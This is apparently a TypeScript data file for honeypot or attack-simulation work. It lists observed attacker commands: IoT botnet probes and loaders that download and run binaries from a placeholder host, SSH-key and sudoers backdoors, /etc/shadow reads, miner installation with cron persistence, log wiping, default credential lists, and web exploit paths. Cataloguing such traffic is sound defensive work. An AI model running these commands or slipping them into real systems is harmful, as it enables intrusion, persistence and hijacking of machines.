/** What attackers type, by the kind of visit; hosts, keys and passwords are replaced, addresses are documentation ranges. */

/** Gate words and capability probes of IoT loaders (Mirai, Hajime, Mozi, Gafgyt). */
export const capabilityProbes: readonly [string, ...string[]] = [
  "enable",
  "sh",
  "ping;sh",
  "kill %%1",
  "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox RXSFY",
  "tftp; wget; /bin/busybox RXSFY",
  "rm .s; exit",
  "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
  "/bin/busybox ECCHI",
  "ls /home; /bin/busybox BOTNET",
  "./oinasf; dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe || cat /proc/self/exe;",
  "busybox dd if=$SHELL bs=22 count=1||dd if=/proc/self/exe bs=22 count=1||while read i;do echo -n $i;done</proc/self/exe",
  "/bin/busybox cp /bin/busybox .x; /bin/busybox cp /bin/busybox .z; >.x; >.z; /bin/busybox chmod 777 .x .z",
  "/bin/busybox echo -en '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > .x && /bin/busybox echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'",
  "./.x; ./.z telnet.arm.echo; >.x; >.z",
  "/bin/busybox wget http://192.0.2.10:80/b/arm -O -> .z; /bin/busybox chmod 777 .z; ./.z telnet.arm.wget; >.z",
  ">/dev/netslink/.t && cd /dev/netslink/ && for a in `ls -a /dev/netslink/`; do >$a; done; >retrieve",
  "cat /proc/1/mounts && ls /proc/1/",
  'result=$(ls -l /proc/$pid/exe); if [ "$result" != "${result%(deleted)}" ]; then kill -9 $pid; fi',
];

/** Second stages: fetch by whatever is there, make it run, clean up. */
export const loaders: readonly [string, ...string[]] = [
  "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; curl -O http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get bins.sh; sh bins.sh; tftp -r bins2.sh -g 192.0.2.10; sh bins2.sh; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.10 bins1.sh bins1.sh; sh bins1.sh; rm -rf bins.sh bins1.sh bins2.sh; rm -rf *",
  "cd /tmp; echo ''>DIRTEST || cd /var; echo ''>DIRTEST; wget http://192.0.2.10/x.sh",
  "(wget http://192.0.2.10/wget -O- || busybox wget http://192.0.2.10/wget -O-) > w; chmod 777 w; ./w; rm -rf w",
  "wget 192.0.2.10/hacker.x86; curl -O http://192.0.2.10/hacker.x86;cat hacker.x86 >Clown;chmod +x *;./Clown J",
  "nohup $SHELL -c \"curl http://192.0.2.10:60101/linux -o /tmp/X; if [ ! -f /tmp/X ]; then wget http://192.0.2.10:60101/linux -O /tmp/X; fi; if [ ! -f /tmp/X ]; then exec 6<>/dev/tcp/192.0.2.10/60101 && echo -n 'GET /linux' >&6 && cat 0<&6 > /tmp/X && chmod +x /tmp/X && /tmp/X ARG; fi; echo 12345678 > /tmp/.opass; chmod +x /tmp/X && /tmp/X ARG\" &",
  'chmod +x setup.sh; sh setup.sh; rm -rf setup.sh; mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "ssh-rsa AAAA…" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a; echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A";',
  "scp -t /tmp/RANDOM",
];

/** SSH worms: recon, persistence, miners. */
export const worms: readonly [string, ...string[]] = [
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA… mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
  "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  "ls -lh $(which ls)",
  "cat /proc/cpuinfo | grep model | grep name | wc -l",
  "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
  "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
  "uname -s -v -n -r -m",
  "uname -s -v -n -m 2>/dev/null || /bin/uname -s -v -n -m 2>/dev/null || busybox uname -s -v -n -m",
  '/bin/bash -c "uname -a ; nvidia-smi --list-gpus | grep 0 | cut -f2 -d: | uniq -c"',
  "cpus=$(nproc 2>/dev/null || busybox nproc 2>/dev/null)",
  "gpu_info=$( (lspci 2>/dev/null | grep -i vga; lspci 2>/dev/null | grep -i nvidia) )",
  "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; export HISTFILE=/dev/null ; export HISTSIZE=0; export HISTFILESIZE=0;",
  'lscpu && echo -e "NEWPW\\nNEWPW" | passwd && curl https://ipinfo.example/org --insecure -s && free -h && apt',
  "uname -a;id;cat /etc/shadow /etc/passwd;lscpu;echo 'daemon ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers;chsh -s /bin/sh daemon;echo NEWPW |passwd daemon --stdin;mkdir ~/.ssh;chattr -ia ~/.ssh/* ~/.ssh;wget http://192.0.2.10/ns1.jpg -O ~/.ssh/authorized_keys;chmod 600 ~/.ssh/authorized_keys",
  "ps -ef | grep '[Mm]iner'",
  "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd",
  "echo SHELL_TEST",
  "echo 1 && cat /bin/echo",
  'printf "#!/bin/bash\\necho \\"xxxxxx\\"\\n" > filter && chmod +x filter && ./filter && rm -rf filter',
  'if [ $(uname -m) == "x86_64" ]; then if [ $(ls /home/) == "richard" ]; then echo "" >/dev/null; else echo "GOTCHA"; fi; fi',
];

/** A person at a keyboard who looks around before they do anything. */
export const lookingAround: readonly [string, ...string[]] = [
  "id",
  "w",
  "uname -a",
  "cat /etc/os-release",
  "ls -la",
  "cat /etc/passwd",
  "ps aux | head -n 15",
  "df -h",
  "ip a",
  "ss -tlnp",
  "cat /root/.bash_history",
  "ls -la /var/www /home /opt",
  "crontab -l",
  "find / -name '*.env' 2>/dev/null | head",
  "history -c",
];

/** Installs a miner the way it is done everywhere. */
export const minerInstall: readonly [string, ...string[]] = [
  "nproc; free -m | grep Mem; cat /proc/cpuinfo | grep 'model name' | head -n 1",
  "ps aux | grep -i '[x]mrig\\|[k]insing\\|[m]iner'",
  "cd /tmp || cd /var/tmp",
  "wget -q http://192.0.2.10/m/xmrig.tar.gz -O .x.tgz || curl -s -o .x.tgz http://192.0.2.10/m/xmrig.tar.gz",
  "tar xzf .x.tgz; chmod +x xmrig; ./xmrig -o pool.example.invalid:3333 -u 4AAAA -B",
  "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/xmrig -B') | crontab -",
  "crontab -l",
  "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ mdrfckr' >> ~/.ssh/authorized_keys",
  "rm -rf /var/log/wtmp; unset HISTFILE; history -c",
];

export const guessedUsers: readonly [string, ...string[]] = [
  "root",
  "admin",
  "ubuntu",
  "test",
  "oracle",
  "postgres",
  "user",
  "git",
  "pi",
  "deploy",
];

export const guessedPasswords: readonly [string, ...string[]] = [
  "123456",
  "password",
  "12345678",
  "admin",
  "root",
  "qwerty",
  "1234",
  "P@ssw0rd",
  "letmein",
  "changeme",
  "test",
  "welcome1",
  "Passw0rd!",
  "1qaz2wsx",
  "raspberry",
];

export const scannedPaths: readonly [string, ...string[]] = [
  "/",
  "/.env",
  "/.git/config",
  "/wp-login.php",
  "/phpmyadmin/index.php",
  "/actuator/health",
  "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/boaform/admin/formLogin?username=admin&psd=admin",
  "/manager/html",
  "/solr/admin/info/system",
  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
  "/server-status",
  "/robots.txt",
  "/backup.zip",
  "/api/v1/users?id=1%27%20OR%20%271%27=%271",
];

export const scannerAgents: readonly [string, ...string[]] = [
  "Mozilla/5.0 zgrab/0.x",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "curl/7.88.1",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
];

export const sshIdentities: readonly [string, ...string[]] = [
  "libssh2_1.9.0",
  "Go",
  "libssh_0.9.6",
  "paramiko_2.12.0",
  "OpenSSH_9.6",
];
